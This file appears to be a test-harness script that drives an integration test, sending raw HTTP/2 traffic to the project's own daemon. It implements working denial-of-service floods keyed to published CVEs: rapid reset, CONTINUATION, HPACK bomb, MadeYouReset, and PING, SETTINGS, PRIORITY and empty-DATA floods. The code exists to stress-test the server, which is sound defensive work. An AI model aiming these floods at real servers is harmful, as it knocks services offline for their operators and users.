"""A raw HTTP/2 attacker for tests/integration/test_http2_attacks.py (issue 16).

It runs inside `askfirst exec` (Debian's /usr/bin/python3) and speaks HTTP/2
over TLS (ALPN h2) to askfirstd, which terminates it. It writes frames with
Debian's python3-hyperframe and header blocks with python3-hpack by hand:
no client-side validation, so it can send what a well-behaved library
(python3-h2 included) refuses to: malformed requests (RFC 9113 §8) and the
flood shapes (CONTINUATION, SETTINGS, PING, rapid reset, HPACK bomb, empty
DATA). It reads commands, one JSON object per line on stdin, and answers one
JSON object per line on stdout, so that the test can measure askfirstd's RSS
and CPU time around each attack:

  {"do": "strict", "row": NAME, "fields": [[name, value], ...], "body": str|null}
      a fresh connection; the request on stream 1, then a good GET on
      stream 3 of the same connection: what came back on each, GOAWAY, EOF.
  {"do": "flood", "shape": NAME, "budget": BYTES, "max_seconds": S}
      a fresh connection; the attack written as fast as askfirstd takes it
      until BUDGET bytes, S seconds (30), the connection's end, or a stall
      (askfirstd no longer reading): bytes sent, frames seen, how it ended.
  {"do": "get", "path": PATH}
      a fresh connection, one GET: its status.
"""
from __future__ import annotations

import json
import os
import select
import socket
import ssl
import struct
import sys
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

HOST = os.environ["H2_ATTACK_HOST"]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
STALL_SECONDS = 5.0      # a write that makes no progress this long: askfirstd stopped reading
CHUNK = 64 * 1024        # attack bytes per write


def base_fields(path: str, method: str = "GET") -> list[tuple[str, str]]:
    return [(":method", method), (":scheme", "https"), (":authority", HOST), (":path", path)]


def hpack_int(value: int, prefix_bits: int, first_byte_flags: int = 0) -> bytes:
    """RFC 7541 §5.1 integer with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def frame_header(length: int, kind: int, flags: int, stream_id: int) -> bytes:
    """RFC 9113 §4.1, for the floods' hot loops (hyperframe's serialize() is slower)."""
    return struct.pack(">I", length)[1:] + struct.pack(">BBI", kind, flags, stream_id)


def literal_not_indexed(name: bytes, value: bytes) -> bytes:
    """RFC 7541 §6.2.2, new name, no Huffman: nothing enters either HPACK table."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


class Connection:
    def __init__(self, window: int = 1 << 24):
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection((HOST, 443), timeout=20)
        self.sock = context.wrap_socket(raw, server_hostname=HOST)
        self.sock.settimeout(STALL_SECONDS)
        if self.sock.selected_alpn_protocol() != "h2":
            raise RuntimeError(f"ALPN chose {self.sock.selected_alpn_protocol()!r}, not h2")
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.inbuf = bytearray()
        self.streams: dict[int, dict] = {}
        self.goaway: dict | None = None
        self.ended: str | None = None   # "eof" or the error that ended the connection
        self.frames_seen: dict[str, int] = {}
        self.header_block: tuple[int, bytearray, bool] | None = None
        settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: window, SettingsFrame.ENABLE_PUSH: 0})
        self.send(PREFACE + settings.serialize() + WindowUpdateFrame(0, window_increment=window).serialize())

    def send(self, data: bytes):
        self.sock.sendall(data)

    def headers(self, stream_id: int, fields, end_stream: bool = True, raw_block: bytes | None = None) -> bytes:
        block = raw_block if raw_block is not None else self.encoder.encode(fields)
        frame = HeadersFrame(stream_id, data=block, flags=["END_HEADERS"] + (["END_STREAM"] if end_stream else []))
        return frame.serialize()

    # ---- reading what askfirstd sent ----

    def pump(self, seconds: float, until=lambda: False) -> None:
        """Reads frames for up to `seconds` (0: only what is already here), or until `until()`."""
        deadline = time.monotonic() + seconds
        while self.ended is None and not until():
            left = deadline - time.monotonic()
            if self.sock.pending() == 0:
                readable, _, _ = select.select([self.sock], [], [], max(0.0, left))
                if not readable:
                    return
            try:
                data = self.sock.recv(1 << 16)
            except (ssl.SSLWantReadError, socket.timeout):
                if left <= 0:
                    return
                continue
            except (OSError, ssl.SSLError) as error:
                self.ended = f"error: {error}"
                return
            if not data:
                self.ended = "eof"
                return
            self.inbuf += data
            self.parse_frames()

    def parse_frames(self):
        while len(self.inbuf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(bytes(self.inbuf[:9])))
            if len(self.inbuf) < 9 + length:
                return
            frame.parse_body(memoryview(bytes(self.inbuf[9:9 + length])))
            del self.inbuf[:9 + length]
            self.on_frame(frame)

    def on_frame(self, frame):
        kind = type(frame).__name__
        self.frames_seen[kind] = self.frames_seen.get(kind, 0) + 1
        stream = self.streams.setdefault(frame.stream_id, {}) if frame.stream_id else None
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.try_send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, GoAwayFrame):
            self.goaway = {"error_code": frame.error_code, "last_stream_id": frame.last_stream_id,
                           "debug": frame.additional_data.decode(errors="replace")}
        elif isinstance(frame, RstStreamFrame):
            stream["rst"] = frame.error_code
        elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
            if isinstance(frame, HeadersFrame):
                self.header_block = (frame.stream_id, bytearray(frame.data), "END_STREAM" in frame.flags)
            else:
                self.header_block[1].extend(frame.data)
            if "END_HEADERS" in frame.flags:
                stream_id, block, ended = self.header_block
                fields = {name.decode() if isinstance(name, bytes) else name:
                          value.decode() if isinstance(value, bytes) else value
                          for name, value in self.decoder.decode(bytes(block), raw=True)}
                if ":status" in fields and not fields[":status"].startswith("1"):
                    self.streams[stream_id]["status"] = int(fields[":status"])
                if ended:
                    self.streams[stream_id]["ended"] = True
        elif isinstance(frame, DataFrame):
            stream["body"] = stream.get("body", "") + frame.data.decode(errors="replace")
            if "END_STREAM" in frame.flags:
                stream["ended"] = True
            if frame.flow_controlled_length:
                self.try_send(WindowUpdateFrame(0, window_increment=frame.flow_controlled_length).serialize())

    def try_send(self, data: bytes):
        try:
            self.send(data)
        except (OSError, ssl.SSLError):
            pass

    def answered(self, stream_id: int) -> bool:
        stream = self.streams.get(stream_id, {})
        return "rst" in stream or stream.get("ended", False)

    def report(self) -> dict:
        return {"streams": {str(k): v for k, v in self.streams.items()}, "goaway": self.goaway, "ended": self.ended,
                "frames_seen": self.frames_seen}

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


# ---- RFC 9113 §8 strictness: one malformed request, then a good GET ----

def strict(command: dict) -> dict:
    connection = Connection()
    connection.pump(2, until=lambda: connection.frames_seen.get("SettingsFrame", 0) > 0)
    fields = [tuple(field) for field in command["fields"]]
    body = command.get("body")
    data = connection.headers(1, fields, end_stream=body is None)
    if body is not None:
        data += DataFrame(1, data=body.encode(), flags=["END_STREAM"]).serialize()
    connection.send(data)
    connection.pump(10, until=lambda: connection.answered(1) or connection.goaway is not None)
    if connection.ended is None and connection.goaway is None:
        connection.try_send(connection.headers(3, base_fields(f"/after-{command['row']}")))
        connection.pump(10, until=lambda: connection.answered(3))
    result = connection.report()
    connection.close()
    return result


# ---- floods: written until the budget is spent, askfirstd ends the connection, or it stalls ----

def continuation_flood(connection: Connection):
    """HEADERS without END_HEADERS, then CONTINUATION frames forever (CVE-2024-28182): 16 KiB each
    of fields never indexed, so the header block grows without end if nothing bounds it."""
    first = HeadersFrame(1, data=connection.encoder.encode(base_fields("/continuation")), flags=["END_STREAM"]).serialize()
    field = literal_not_indexed(b"x-flood", b"c" * (1024 - 12))
    payload = field * 16
    frame = ContinuationFrame(1, data=payload).serialize()
    return first, frame * (CHUNK // len(frame) + 1)


def settings_flood(connection: Connection):
    """Empty SETTINGS frames: each one asks askfirstd for an ACK."""
    return b"", SettingsFrame(0).serialize() * (CHUNK // 9)


def stream_after_stream(first_stream: int, frames_for):
    """The next CHUNK of an attack that opens a new stream each time: frames_for(stream_id)'s
    bytes for stream first_stream, then the next odd id, until CHUNK bytes are ready."""
    state = {"next": first_stream}

    def more():
        out = bytearray()
        while len(out) < CHUNK:
            out += frames_for(state["next"])
            state["next"] += 2
        return bytes(out)

    return more


def ping_flood(connection: Connection):
    """PING frames, never reading the ACKs (CVE-2019-9512)."""
    return b"", PingFrame(0, opaque_data=b"askfirst").serialize() * (CHUNK // 17)


def rapid_reset(connection: Connection):
    """HEADERS then RST_STREAM(CANCEL) on each new stream (CVE-2023-44487): the stream count
    never reaches MAX_CONCURRENT_STREAMS, each request costs the server its decision."""
    fields = base_fields("/rapid-reset")
    first = connection.headers(1, fields) + RstStreamFrame(1, error_code=CANCEL).serialize()
    block = connection.encoder.encode(fields)  # every field now indexed: the same bytes each time
    return first, stream_after_stream(3, lambda stream_id: (
        frame_header(len(block), 0x1, 0x5, stream_id) + block  # HEADERS, END_STREAM|END_HEADERS
        + frame_header(4, 0x3, 0, stream_id) + struct.pack(">I", CANCEL)))  # RST_STREAM


def hpack_bomb(connection: Connection):
    """One 3900-byte field indexed once, then referenced by one byte (index 62, the newest entry)
    16 K times per HEADERS frame: each 16 KiB frame decodes to ~64 MiB of header fields
    (CVE-2016-6581's shape); a new stream each time."""
    bomb = ("x-bomb", "b" * 3900)

    def frames(stream_id):
        block = connection.encoder.encode(base_fields("/hpack-bomb") + ([bomb] if stream_id == 1 else []))
        block += b"\xbe" * (16 * 1024 - len(block))  # indexed field 62: x-bomb
        return connection.headers(stream_id, None, raw_block=block)

    return b"", stream_after_stream(1, frames)


def empty_data_flood(connection: Connection):
    """A POST left open, then DATA frames with no payload and no END_STREAM (CVE-2019-9518): they
    cost a frame's work each and use no flow-control window."""
    first = connection.headers(1, base_fields("/empty-data", "POST"), end_stream=False)
    return first, DataFrame(1, data=b"").serialize() * (CHUNK // 9)


def made_you_reset(connection: Connection):
    """A POST whose DATA contradicts its content-length, on each new stream (CVE-2025-8671,
    "MadeYouReset"): the server resets each stream itself, so the guest's own resets, which
    the rapid-reset limit counts, are never needed; each request was read and judged first."""
    fields = base_fields("/made-you-reset", "POST") + [("content-length", "1")]
    first = connection.headers(1, fields, end_stream=False)
    block = connection.encoder.encode(fields)  # every field now indexed: the same bytes each time
    first += frame_header(2, 0x0, 0x1, 1) + b"ab"
    return first, stream_after_stream(3, lambda stream_id: (
        frame_header(len(block), 0x1, 0x4, stream_id) + block  # HEADERS, END_HEADERS
        + frame_header(2, 0x0, 0x1, stream_id) + b"ab"))  # DATA, END_STREAM: 2 bytes, not 1


def priority_flood(connection: Connection):
    """PRIORITY frames on ever new idle streams, each made the exclusive parent of the last
    (CVE-2019-9513's dependency-tree churn): no answer is due, each costs the tree's upkeep."""
    state = {"next": 1}

    def more():
        out = bytearray()
        while len(out) < CHUNK:
            stream_id = state["next"]
            state["next"] += 2
            depends_on = (max(stream_id - 2, 0)) | 0x80000000  # exclusive
            out += frame_header(5, 0x2, 0, stream_id) + struct.pack(">IB", depends_on, 255)
        return bytes(out)

    return b"", more


def window_update_flood(connection: Connection):
    """WINDOW_UPDATE frames of 1 on the connection: no answer is due, each costs a frame's work."""
    return b"", (frame_header(4, 0x8, 0, 0) + struct.pack(">I", 1)) * (CHUNK // 13)


SHAPES = {"continuation": continuation_flood, "settings": settings_flood, "ping": ping_flood,
          "rapid_reset": rapid_reset, "hpack_bomb": hpack_bomb, "empty_data": empty_data_flood,
          "priority": priority_flood, "window_update": window_update_flood, "made_you_reset": made_you_reset}


def flood(command: dict) -> dict:
    connection = Connection()
    connection.pump(2, until=lambda: connection.frames_seen.get("SettingsFrame", 0) > 0)
    first, repeated = SHAPES[command["shape"]](connection)
    budget = command["budget"]
    sent, outcome = 0, "budget spent"
    started = time.monotonic()
    try:
        connection.send(first)
        sent += len(first)
        deadline = started + command.get("max_seconds", 30)
        while sent < budget:
            if time.monotonic() > deadline:
                outcome = "still read by askfirstd when the attacker's time was up"
                break
            chunk = repeated() if callable(repeated) else repeated
            connection.send(chunk)
            sent += len(chunk)
            if command.get("read_while_sending", True):
                connection.pump(0)
            if connection.ended is not None:
                outcome = "closed by askfirstd"
                break
    except socket.timeout:
        outcome = "stalled: askfirstd stopped reading"
    except (OSError, ssl.SSLError) as error:
        outcome = "closed by askfirstd"
        connection.ended = connection.ended or f"error: {error}"
    seconds = time.monotonic() - started
    connection.pump(10)  # a GOAWAY or the end still on its way
    result = connection.report()
    result.update(sent=sent, outcome=outcome, seconds=round(seconds, 3),
                  ended_after=round(time.monotonic() - started, 3))
    connection.close()
    return result


def get(command: dict) -> dict:
    connection = Connection()
    connection.send(connection.headers(1, base_fields(command["path"])))
    connection.pump(20, until=lambda: connection.answered(1))
    result = connection.report()
    connection.close()
    return result


def main():
    for line in sys.stdin:
        command = json.loads(line)
        try:
            result = {"strict": strict, "flood": flood, "get": get}[command["do"]](command)
        except Exception as error:  # reported to the test, which fails with it
            result = {"client_error": f"{type(error).__name__}: {error}"}
        print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
